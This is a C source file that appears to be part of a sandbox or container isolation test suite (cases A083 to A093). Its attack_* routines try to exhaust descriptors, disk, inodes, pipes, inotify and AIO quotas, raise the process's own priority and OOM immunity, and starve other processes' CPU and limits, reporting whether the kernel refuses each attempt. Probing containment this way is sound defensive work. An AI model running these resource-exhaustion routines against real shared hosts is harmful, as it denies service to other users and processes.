/* SPDX-License-Identifier: Apache-2.0 */
/* Resources, part two: descriptors, disk, inodes, output, priorities, quotas of the kernel (A083 to A093). */
#include "probe.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

/* A089: opens until refused. */
int attack_open_files(int argc, char **argv)
{
	int count = 0;

	(void)argc;
	(void)argv;
	while (count < 2000000 && open("/dev/null", O_RDONLY | O_CLOEXEC) >= 0)
		count++;
	report("open", -1);
	close(3);
	close(4);
	report_text("opened", "%d", count);
	return 0;
}

static long pass_one(int socket_fd, int fd)
{
	char space[CMSG_SPACE(sizeof(int))] = { 0 };
	char byte = 0;
	struct iovec iov = { &byte, 1 };
	struct msghdr message = { .msg_iov = &iov,
				  .msg_iovlen = 1,
				  .msg_control = space,
				  .msg_controllen = sizeof(space) };
	struct cmsghdr *header = CMSG_FIRSTHDR(&message);

	header->cmsg_level = SOL_SOCKET;
	header->cmsg_type = SCM_RIGHTS;
	header->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(header), &fd, sizeof(int));
	return sendmsg(socket_fd, &message, MSG_DONTWAIT);
}

/* A089: descriptors hoarded in flight, where no table counts them. */
int attack_pass_files(int argc, char **argv)
{
	long passed = 0;
	int refused = 0;

	(void)argc;
	(void)argv;
	for (int pairs = 0; pairs < 4096; pairs++) {
		int fds[2], file;

		if (socketpair(AF_UNIX, SOCK_DGRAM, 0, fds) != 0)
			break;
		while ((file = open("/dev/null", O_RDONLY | O_CLOEXEC)) >= 0 &&
		       pass_one(fds[0], file) > 0) {
			close(file);
			passed++;
		}
		if (errno == ETOOMANYREFS)
			refused = 1;
		if (file >= 0)
			close(file);
	}
	report_text("passed", "%ld", passed);
	report_text("refused", "%d", refused);
	return 0;
}

static void raise_limits(void)
{
	static const struct {
		const char *name;
		int resource;
	} limits[] = { { "nofile", RLIMIT_NOFILE }, { "nproc", RLIMIT_NPROC },
		       { "fsize", RLIMIT_FSIZE },   { "memlock", RLIMIT_MEMLOCK },
		       { "rtprio", RLIMIT_RTPRIO }, { "nice", RLIMIT_NICE } };
	char name[32];

	for (size_t i = 0; i < COUNT(limits); i++) {
		struct rlimit limit;

		getrlimit((__rlimit_resource_t)limits[i].resource, &limit);
		snprintf(name, sizeof(name), "rlimit-%s", limits[i].name);
		if (limit.rlim_max == RLIM_INFINITY) {
			report_text(name, "unlimited");
			continue;
		}
		limit.rlim_max++;
		limit.rlim_cur = limit.rlim_max;
		report(name, setrlimit((__rlimit_resource_t)limits[i].resource, &limit));
		report_text("limit", "%s %llu", limits[i].name,
			    (unsigned long long)limit.rlim_max - 1);
	}
}

/* A093 */
int attack_raise(int argc, char **argv)
{
	struct sched_param param = { .sched_priority = 10 };
	int fd = open("/proc/self/oom_score_adj", O_WRONLY | O_CLOEXEC);
	size_t much = 1ul << 30;
	char *map = mmap(NULL, much, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	int saved;

	(void)argc;
	(void)argv;
	raise_limits();
	report("nice", setpriority(PRIO_PROCESS, 0, -20));
	report("fifo", sched_setscheduler(0, SCHED_FIFO, &param));
	report("rr", sched_setscheduler(0, SCHED_RR, &param));
	report("ioprio", syscall(SYS_ioprio_set, 1, 0, 1 << 13));
	report("oom_score_adj", fd < 0 ? -1 : write(fd, "-1000", 5));
	saved = mlock(map, much);
	report("mlock", saved);
	return 0;
}

/* Of all processes of this user, wherever they are: for inside only. */
static void starve_all(void)
{
	report("nice-user", setpriority(PRIO_USER, 0, 19));
	report("nice-user-high", syscall(SYS_setpriority, 1ul << 32 | PRIO_USER, 0, 19));
	report("ioprio-user", syscall(SYS_ioprio_set, 3, 0, 3 << 13));
}

/* A093: ARGV: the process whose share is taken away; "all" for the whole user's. */
int attack_starve(int argc, char **argv)
{
	pid_t pid = argc > 0 ? atoi(argv[0]) : 0;
	struct sched_param param = { .sched_priority = 0 };
	const struct rlimit none = { 0, 0 };
	cpu_set_t first;
	pid_t group;

	if (pid <= 0)
		return 2;
	CPU_ZERO(&first);
	CPU_SET(0, &first);
	report("affinity", sched_setaffinity(pid, sizeof(first), &first));
	report("affinity-high", syscall(SYS_sched_setaffinity, 1ul << 32 | (unsigned long)pid,
					sizeof(first), &first));
	report("nice", setpriority(PRIO_PROCESS, (id_t)pid, 19));
	/* A group of another pid namespace has no number, and 0 is one's own. */
	group = getpgid(pid);
	if (group > 0)
		report("nice-group", setpriority(PRIO_PGRP, (id_t)group, 19));
	report("ioprio", syscall(SYS_ioprio_set, 1, pid, 3 << 13));
	report("idle", sched_setscheduler(pid, SCHED_IDLE, &param));
	report("nofile", prlimit(pid, RLIMIT_NOFILE, &none, NULL));
	report("nproc", prlimit(pid, RLIMIT_NPROC, &none, NULL));
	report("cpu", prlimit(pid, RLIMIT_CPU, &none, NULL));
	if (argc > 1)
		starve_all();
	return 0;
}

/* A091 */
int attack_aio(int argc, char **argv)
{
	unsigned long context = 0;

	(void)argc;
	(void)argv;
	report("io_setup", syscall(SYS_io_setup, 65536, &context));
	return 0;
}

/* A084: ARGV: directory, how many at most. */
int attack_inodes(int argc, char **argv)
{
	long wanted = argc > 1 ? atol(argv[1]) : 0, made = 0;
	char path[4096];

	for (; made < wanted; made++) {
		if (made % 10000 == 0) {
			snprintf(path, sizeof(path), "%s/d%ld", argv[0], made / 10000);
			if (mkdir(path, 0755) != 0)
				break;
		}
		snprintf(path, sizeof(path), "%s/d%ld/f%ld", argv[0], made / 10000, made);
		if (mknod(path, S_IFREG | 0600, 0) != 0)
			break;
	}
	report("inode", made == wanted ? 0 : -1);
	report_text("made", "%ld", made);
	return 0;
}

/* A083: ARGV: directory, MiB at most; many files, so that the size limit of one file does not save the day. */
int attack_disk(int argc, char **argv)
{
	static char block[1 << 20];
	long wanted = argc > 1 ? atol(argv[1]) : 0, done = 0;
	char path[4096];
	int fd = -1;

	memset(block, 0x5a, sizeof(block));
	signal(SIGXFSZ, SIG_IGN);
	for (; done < wanted; done++) {
		if (done % 16 == 0) {
			if (fd >= 0)
				close(fd);
			snprintf(path, sizeof(path), "%s/fill%ld", argv[0], done);
			fd = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
		}
		errno = ENOSPC;
		if (fd < 0 || write(fd, block, sizeof(block)) != (ssize_t)sizeof(block))
			break;
	}
	report("write", done == wanted ? 0 : -1);
	report_text("filled", "%ld", done);
	return done == wanted ? 0 : 1;
}

/* A086: ARGV: directory, depth, width. */
int attack_deep(int argc, char **argv)
{
	long depth = argc > 2 ? atol(argv[1]) : 0, width = argc > 2 ? atol(argv[2]) : 0, made = 0;
	char name[32];

	if (argc < 3 || chdir(argv[0]) != 0 || mkdir("wide", 0755) != 0)
		return 2;
	for (long i = 0; i < width; i++) {
		snprintf(name, sizeof(name), "wide/%ld", i);
		if (mknod(name, S_IFREG | 0600, 0) != 0)
			break;
	}
	while (made < depth && mkdir("d", 0755) == 0 && chdir("d") == 0)
		made++;
	report_text("deep", "%ld", made);
	return 0;
}

/* A087: ARGV: MiB on each stream. */
int attack_flood(int argc, char **argv)
{
	static char block[1 << 16];
	long blocks = (argc > 0 ? atol(argv[0]) : 1) * 16;

	memset(block, 'y', sizeof(block));
	for (long i = 0; i < blocks; i++)
		for (int fd = 1; fd < 3; fd++)
			for (size_t at = 0; at < sizeof(block);) {
				ssize_t len = write(fd, block + at, sizeof(block) - at);

				if (len <= 0)
					return 1;
				at += (size_t)len;
			}
	return 0;
}

/* Rule 10 of the threat model: instances of inotify are a quota of the host's user. */
int attack_inotify(int argc, char **argv)
{
	int count = 0;

	(void)argc;
	(void)argv;
	while (count < 5000 && inotify_init1(IN_CLOEXEC) >= 0)
		count++;
	report("inotify", -1);
	close(3);
	report_text("instances", "%d", count);
	if (argc > 0)
		sleep((unsigned)atoi(argv[0]));
	return 0;
}

/* Pages in pipes are a quota of the host's user as well. */
int attack_pipes(int argc, char **argv)
{
	long total = 0;
	int fds[2];

	while (total < 4096 && pipe(fds) == 0) {
		if (fcntl(fds[0], F_SETPIPE_SZ, 1 << 20) < 0)
			break;
		total++;
	}
	report_text("pipes", "%ld", total);
	if (argc > 0)
		sleep((unsigned)atoi(argv[0]));
	return 0;
}
